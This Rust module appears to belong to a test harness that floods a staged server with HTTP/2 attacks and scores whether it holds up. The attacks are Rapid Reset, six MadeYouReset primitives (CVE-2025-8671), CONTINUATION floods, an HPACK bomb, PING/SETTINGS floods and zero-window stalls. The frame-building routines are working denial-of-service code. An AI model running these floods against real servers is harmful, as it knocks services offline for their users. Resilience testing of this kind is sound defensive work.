//! Attacks with the frames of HTTP/2.

use super::scene::Scene;
use crate::books::Label;
use crate::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, Link, PING, PRIORITY, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, frame, literal, section,
};
use crate::population::bots;
use crate::report::{Bar, Held, Report};
use crate::stage::Stage;
use std::net::Ipv4Addr;
use std::sync::atomic::Ordering;
use std::time::Duration;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Streams {
    RapidReset,
    MadeYouReset,
    Continuation,
    HpackBomb,
    Ping,
    Settings,
    EmptyData,
    ZeroWindow,
}

/// Ways to have the other side reset a stream that was asked for in order (CVE-2025-8671).
const PRIMITIVES: [&str; 6] = [
    "WINDOW_UPDATE of 0",
    "WINDOW_UPDATE over the end",
    "PRIORITY of a wrong length",
    "PRIORITY upon itself",
    "DATA after the end",
    "HEADERS after the end",
];

/// Steps of one connection.
const STEPS: u32 = 10_000;
/// Steps written at once, and the pause after them, so that an answer can come in between.
const BATCH: u32 = 8;
const PAUSE: Duration = Duration::from_millis(2);
const STEPS_BAR: u32 = 1_000;
const RESETS_BAR: u32 = 64;
/// How much the target may have taken while an attack went on.
const MEMORY_MIB_BAR: f64 = 32.0;

/// One connection, pressed until it ended.
struct Pressed {
    steps: u32,
    ended: bool,
    resets: u32,
    heads: u32,
}

pub(super) async fn run(stage: &Stage, row: &'static str, kind: Streams) -> Report {
    let scene = Scene::open(stage, Duration::from_secs(if kind == Streams::ZeroWindow { 60 } else { 30 }));
    scene.calm().await;
    let before = stage.memory_mib();
    let address = bots(&stage.dice(30), 1)[0];
    scene.books.know(address, Label::Attacker);
    let mut bars = match kind {
        Streams::MadeYouReset => made_you_reset(stage, address).await,
        Streams::ZeroWindow => zero_window(stage, address).await,
        Streams::HpackBomb => hpack_bomb(stage, address).await,
        _ => ended_within(stage, address, kind).await,
    };
    let arrived = stage.arrivals(&scene.books, Label::Attacker, scene.attack);
    if matches!(kind, Streams::RapidReset | Streams::MadeYouReset) {
        let tried = STEPS as usize * if kind == Streams::MadeYouReset { PRIMITIVES.len() } else { 1 };
        bars.push(Bar::count(
            "requests at the origin",
            format!("at most 1 % of {tried} tried"),
            format!("{arrived}"),
            arrived * 100 <= tried,
        ));
    }
    bars.push(match (before, stage.memory_mib()) {
        (Some(before), Some(after)) => Bar::time(
            "the target's memory",
            format!("at most {MEMORY_MIB_BAR:.0} MiB more"),
            format!("{before:.0} MiB before, {after:.0} MiB after"),
            after - before <= MEMORY_MIB_BAR,
        ),
        _ => Bar::time("the target's memory", "flat", "the process is not named", Held::Unmeasured),
    });
    // Visitors go on a little, to see whether anything was left behind.
    tokio::time::sleep(Duration::from_millis(700)).await;
    scene.close(row, bars, Vec::new()).await
}

/// Presses one connection with a step's frames again and again.
async fn press(stage: &Stage, from: Ipv4Addr, steps: u32, step: impl Fn(u32) -> Vec<u8>) -> Option<Pressed> {
    let mut link = Link::open(from, stage.target(), &[]).await.ok()?;
    let mut done = 0;
    while done < steps {
        let bytes: Vec<u8> = (done..done + BATCH).flat_map(&step).collect();
        if !link.write(&bytes).await {
            break;
        }
        done += BATCH;
        tokio::time::sleep(PAUSE).await;
    }
    let ended = link.ends_within(Duration::from_secs(2)).await;
    let (resets, heads) = (&link.heard.resets, &link.heard.heads);
    Some(Pressed {
        steps: done,
        ended,
        resets: resets.load(Ordering::Relaxed),
        heads: heads.load(Ordering::Relaxed),
    })
}

/// The stream of a step.
fn stream(step: u32) -> u32 {
    step * 2 + 1
}

fn request(stage: &Stage, step: u32, flags: u8) -> Vec<u8> {
    let section = section(&stage.target().host, &format!("/news?{step}"));
    frame(HEADERS, END_HEADERS | flags, stream(step), &section)
}

async fn ended_within(stage: &Stage, from: Ipv4Addr, kind: Streams) -> Vec<Bar> {
    let opening = request(stage, 0, 0);
    let begun = frame(HEADERS, 0, 1, &section(&stage.target().host, "/news"));
    let mut filler = Vec::new();
    literal(&mut filler, &[0x00, 0x06, b'x', b'-', b'm', b'o', b'r', b'e'], &[b'.'; 1000]);
    let step = |step: u32| match kind {
        Streams::RapidReset => {
            [request(stage, step, END_STREAM), frame(RST_STREAM, 0, stream(step), &[0, 0, 0, 8])].concat()
        }
        Streams::Continuation => {
            let first = if step == 0 { begun.clone() } else { Vec::new() };
            [first, frame(CONTINUATION, 0, 1, &filler)].concat()
        }
        Streams::Ping => frame(PING, 0, 0, &[0; 8]),
        Streams::Settings => frame(SETTINGS, 0, 0, &[]),
        _ => {
            let first = if step == 0 { opening.clone() } else { Vec::new() };
            [first, frame(DATA, 0, 1, &[])].concat()
        }
    };
    let Some(pressed) = press(stage, from, STEPS, step).await else { return vec![no_connection()] };
    let figure =
        if pressed.ended { format!("{}", pressed.steps) } else { format!("not after {}", pressed.steps) };
    let mut bars = vec![Bar::count(
        "ended after frames (streams)",
        format!("at most {STEPS_BAR}"),
        figure,
        pressed.ended && pressed.steps <= STEPS_BAR,
    )];
    if kind == Streams::RapidReset {
        bars.push(Bar::count("answers begun", "told", format!("{}", pressed.heads), true));
    }
    bars
}

fn no_connection() -> Bar {
    Bar::count("connection", "HTTP/2 over TLS", "none", Held::No)
}

async fn made_you_reset(stage: &Stage, from: Ipv4Addr) -> Vec<Bar> {
    let mut bars = Vec::new();
    for (number, name) in PRIMITIVES.iter().enumerate() {
        let step = |step: u32| {
            let id = stream(step);
            let bad = match number {
                0 => frame(WINDOW_UPDATE, 0, id, &[0; 4]),
                1 => frame(WINDOW_UPDATE, 0, id, &[0x7f, 0xff, 0xff, 0xff]),
                2 => frame(PRIORITY, 0, id, &[0; 4]),
                3 => frame(PRIORITY, 0, id, &[&id.to_be_bytes()[..], &[16]].concat()),
                4 => frame(DATA, 0, id, b"late"),
                _ => request(stage, step, END_STREAM),
            };
            [request(stage, step, END_STREAM), bad].concat()
        };
        let bar = format!("ended within {RESETS_BAR} resets, or 1,000 streams without");
        bars.push(match press(stage, from, STEPS_BAR * 2, step).await {
            Some(Pressed { steps, ended, resets, .. }) => {
                let how = if ended { "ended" } else { "not ended" };
                // Where the other side neither resets nor ends, the frame was no way to make it.
                let harmless = resets == 0 && !ended;
                Bar::count(
                    name,
                    bar,
                    format!("{how} after {steps} streams, {resets} resets"),
                    harmless || ended && resets <= RESETS_BAR && steps <= STEPS_BAR,
                )
            }
            None => no_connection(),
        });
    }
    bars
}

/// Puts one large field in the table, then names it as often as a head may be long.
async fn hpack_bomb(stage: &Stage, from: Ipv4Addr) -> Vec<Bar> {
    let mut planted = section(&stage.target().host, "/news");
    literal(&mut planted, &[0x40, 0x01, b'x'], &[b'.'; 3900]);
    let bomb = [section(&stage.target().host, "/news"), vec![0xbe; 16_000]].concat();
    let step = |step: u32| {
        let section = if step == 0 { &planted } else { &bomb };
        frame(HEADERS, END_HEADERS | END_STREAM, stream(step), section)
    };
    match press(stage, from, 64, step).await {
        Some(pressed) => {
            let sent = stage.origin.count(|arrival| arrival.path == "/news");
            vec![
                Bar::count(
                    "bombs answered or ended",
                    "all",
                    format!(
                        "{} answers, {} resets, connection {}",
                        pressed.heads,
                        pressed.resets,
                        if pressed.ended { "ended" } else { "open" }
                    ),
                    pressed.ended || pressed.heads + pressed.resets >= pressed.steps,
                ),
                // The request that plants the field is an ordinary one.
                Bar::count("bombs at the origin", "none", format!("{}", sent.saturating_sub(1)), sent <= 1),
            ]
        }
        None => vec![no_connection()],
    }
}

async fn zero_window(stage: &Stage, from: Ipv4Addr) -> Vec<Bar> {
    // SETTINGS_INITIAL_WINDOW_SIZE of 0.
    let Ok(mut link) = Link::open(from, stage.target(), &[0, 4, 0, 0, 0, 0]).await else {
        return vec![no_connection()];
    };
    let streams = 50;
    for step in 0..streams {
        let section = section(&stage.target().host, "/large");
        link.write(&frame(HEADERS, END_HEADERS | END_STREAM, stream(step), &section)).await;
    }
    let began = stage.now();
    let limit = Duration::from_secs(45);
    let all_ended = || link.has_ended() || link.heard.resets.load(Ordering::Relaxed) >= streams;
    while !all_ended() && stage.now() < began + limit {
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let resets = link.heard.resets.load(Ordering::Relaxed);
    let took = (stage.now() - began).as_secs_f64();
    vec![
        Bar::count(
            "stalled streams ended",
            format!("all {streams}"),
            if link.has_ended() { "all, with the connection".into() } else { format!("{resets}") },
            all_ended(),
        ),
        Bar::time("the last one after", "at most 31 s", format!("{took:.1} s"), all_ended() && took <= 31.0),
    ]
}
